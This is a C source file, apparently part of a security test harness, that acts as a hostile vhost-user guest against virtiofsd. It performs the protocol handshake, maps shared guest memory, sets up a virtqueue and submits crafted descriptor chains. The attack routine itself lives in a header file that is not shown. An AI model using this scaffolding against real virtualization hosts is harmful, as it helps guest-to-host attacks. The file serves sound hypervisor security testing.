/*
 * A guest that controls its virtio-fs queue, as seen by virtiofsd: a vhost-user front end.
 *
 * use: fuse-client SOCKET CANARY AREA, see fuse-client.h
 */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/vhost_types.h>
#include <linux/virtio_ring.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "fuse-client.h"

enum {
  GET_FEATURES = 1,
  SET_FEATURES,
  SET_OWNER,
  RESET_OWNER,
  SET_MEM_TABLE,
  SET_VRING_NUM = 8,
  SET_VRING_ADDR,
  SET_VRING_BASE,
  GET_VRING_BASE,
  SET_VRING_KICK,
  SET_VRING_CALL,
  SET_VRING_ERR,
  GET_PROTOCOL_FEATURES,
  SET_PROTOCOL_FEATURES,
  GET_QUEUE_NUM,
  SET_VRING_ENABLE
};

struct message {
  uint32_t request, flags, size;
  union {
    uint64_t number;
    struct vhost_vring_state state;
    struct vhost_vring_addr addr;
    struct {
      uint32_t regions, padding;
      uint64_t guest, size, user, offset;
    } memory;
  };
} __attribute__((packed));

#define HEADER 12
#define QUEUE 1 /* 0 is for what may not wait */

static int server;
static int kick, call;
uint8_t *memory;
static struct vring ring;

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void tell(struct message *m, uint32_t size, int fd) {
  char control[CMSG_SPACE(sizeof fd)] = {0};
  struct iovec part = {m, HEADER + size};
  struct msghdr header = {.msg_iov = &part, .msg_iovlen = 1};
  if (fd >= 0) {
    header.msg_control = control;
    header.msg_controllen = sizeof control;
    struct cmsghdr *c = CMSG_FIRSTHDR(&header);
    *c = (struct cmsghdr){CMSG_LEN(sizeof fd), SOL_SOCKET, SCM_RIGHTS};
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
  }
  m->flags = 1;
  m->size = size;
  if (sendmsg(server, &header, 0) < 0) fail("sendmsg");
}

static uint64_t ask(uint32_t request) {
  struct message m = {.request = request};
  tell(&m, 0, -1);
  if (recv(server, &m, HEADER + 8, MSG_WAITALL) != HEADER + 8) fail("recv");
  return m.number;
}

static void give(uint32_t request, uint64_t number, int fd) {
  struct message m = {.request = request, .number = number};
  tell(&m, 8, fd);
}

static void start(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  server = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(server, (struct sockaddr *)&address, sizeof address)) fail(path);
  int file = memfd_create("guest", 0);
  if (ftruncate(file, MEMORY)) fail("memfd");
  memory = mmap(0, MEMORY, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (memory == MAP_FAILED) fail("mmap");
  vring_init(&ring, ENTRIES, memory, 4096);
  struct message owner = {.request = SET_OWNER};
  uint64_t features = ask(GET_FEATURES);
  tell(&owner, 0, -1);
  give(SET_FEATURES, features & (1ull << 32 | 1ull << 30), -1); /* VERSION_1, PROTOCOL_FEATURES */
  ask(GET_PROTOCOL_FEATURES);
  give(SET_PROTOCOL_FEATURES, 1, -1); /* several queues */
  struct message table = {.request = SET_MEM_TABLE};
  table.memory.regions = 1;
  table.memory.size = MEMORY;
  table.memory.user = (uintptr_t)memory;
  tell(&table, sizeof table.memory, file);
  kick = eventfd(0, 0);
  call = eventfd(0, EFD_NONBLOCK);
  struct message state = {.request = SET_VRING_NUM, .state = {QUEUE, ENTRIES}};
  tell(&state, sizeof state.state, -1);
  state = (struct message){.request = SET_VRING_BASE, .state = {QUEUE, 0}};
  tell(&state, sizeof state.state, -1);
  struct message where = {.request = SET_VRING_ADDR};
  where.addr = (struct vhost_vring_addr){.index = QUEUE,
                                         .desc_user_addr = (uintptr_t)ring.desc,
                                         .used_user_addr = (uintptr_t)ring.used,
                                         .avail_user_addr = (uintptr_t)ring.avail};
  tell(&where, sizeof where.addr, -1);
  give(SET_VRING_CALL, QUEUE, call);
  give(SET_VRING_KICK, QUEUE, kick);
  state = (struct message){.request = SET_VRING_ENABLE, .state = {QUEUE, 1}};
  tell(&state, sizeof state.state, -1);
}

int chain(uint32_t length, uint32_t answer, uint64_t answer_at) {
  ring.desc[0] = (struct vring_desc){REQUEST_AT, length, VRING_DESC_F_NEXT, 1};
  ring.desc[1] = (struct vring_desc){answer_at, answer, VRING_DESC_F_WRITE, 0};
  uint16_t before = ring.used->idx;
  ring.avail->ring[ring.avail->idx % ENTRIES] = 0;
  __sync_synchronize();
  ring.avail->idx++;
  uint64_t one = 1;
  if (write(kick, &one, 8) != 8) fail("kick");
  for (int i = 0; i < 500; i++) {
    __sync_synchronize();
    if (ring.used->idx != before) return 0;
    struct pollfd gone = {server, POLLIN, 0};
    if (poll(&gone, 1, 10) > 0) return -EPIPE;
  }
  return -ETIME;
}

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  setvbuf(stdout, 0, _IOLBF, 0);
  start(argv[1]);
  attack(argv[2], argv[3]);
  break_off();
  puts("end");
  return 0;
}
